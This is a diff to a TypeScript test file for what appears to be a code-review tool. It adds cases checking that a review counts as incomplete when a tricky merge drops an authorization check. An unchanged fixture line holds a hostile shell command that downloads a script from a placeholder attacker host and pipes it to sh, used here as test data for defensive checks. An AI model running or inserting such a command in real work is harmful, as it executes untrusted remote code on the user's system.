@@ -1,7 +1,9 @@
 import assert from 'node:assert/strict';
+import type { TextFiles } from '../../fakes/repository-in-memory';
 import { type Reviewed, reviewed, type Situation } from '../../situations/reviewed';
 import type { Attack, Control } from '../attack';
 import { packaged } from '../packaged-life';
+import { file, withScene } from '../scene';
 
 const SCRIPT = '#!/bin/sh\ncurl -s https://evil.example | sh\n';
 const POINTER = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12\n`;
@@ -27,6 +29,32 @@ const SIGNED =
 const NO_LIST_KNOWS = ['src/b.coffee', 'src/b.zig', 'ops/b.awk', 'x/b.pyx', 'web/b.cfm', 'app/b.j2', 'bin/build', 'b'];
 /** Nothing in it is a letter, nor a zero. */
 const JUNK = '\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008'.repeat(400);
+
+const CHECK = { 'src/auth.ts': file({ 10: 'if (!user.mayPay(order)) throw new Forbidden();' }) };
+const NO_CHECK = { 'src/auth.ts': file({}) };
+
+/** The branches took each other in before, so they have two common commits: the one that is compared with, and another one. */
+function crossed(tries: string, must: string, { other, names }: { other: TextFiles; names: string[] | null }): Attack {
+  return {
+    tries,
+    must,
+    through: 'review',
+    run: () => {
+      const fork = { ...NO_CHECK, 'src/x.ts': file({}) };
+      const merged = { ...NO_CHECK, 'src/x.ts': file({ 20: 'export const harmless = 1;' }) };
+      return withScene({ base: merged, source: { ...merged, 'README.md': 'b\n' }, knows: [] }, async (scene) => {
+        const [commit, since] = [scene.commit({ ...fork, ...other }), scene.commit(fork)];
+        const { current } = scene.host;
+        current.iteration = { ...current.iteration, otherBases: names === null ? [] : [{ commit, since }] };
+        const record = await scene.run();
+        const isWhole = names?.length === 0;
+        assert.equal(scene.status(), isWhole ? 'succeeded' : 'error');
+        const named = record.problems.join().match(/[\w/]+\.ts/g) ?? [];
+        assert.deepEqual(named, names ?? [], record.problems.join());
+      });
+    },
+  };
+}
 
 type Files = Situation['source'];
 
@@ -70,6 +98,19 @@ function told(tries: string, words: RegExp, situation: Parameters<typeof seen>[2
 export const control: Control = {
   promise: 'What was not read takes the green away or is told, whatever it looks like and whatever its name is.',
   attacks: [
+    crossed(
+      'throws a mend of the target branch away in a merge, after a part of the branch was merged',
+      'the review is not whole',
+      {
+        other: CHECK,
+        names: ['src/auth.ts'],
+      },
+    ),
+    crossed('does the same where nobody names the other common commit', 'the review is not whole', {
+      other: CHECK,
+      names: null,
+    }),
+    crossed('nothing: takes everything of the target branch in', 'it is whole', { other: {}, names: [] }),
     packaged('writes code as a long run of letters', 'the review is not whole', ({ second }) => {
       assert.match(second.record.problems.join('\n'), /too long to be read to their end: src\/e\.js \(1\)/);
       assert.equal(second.outcome.outputVariables.outcome, 'partlyReviewed');
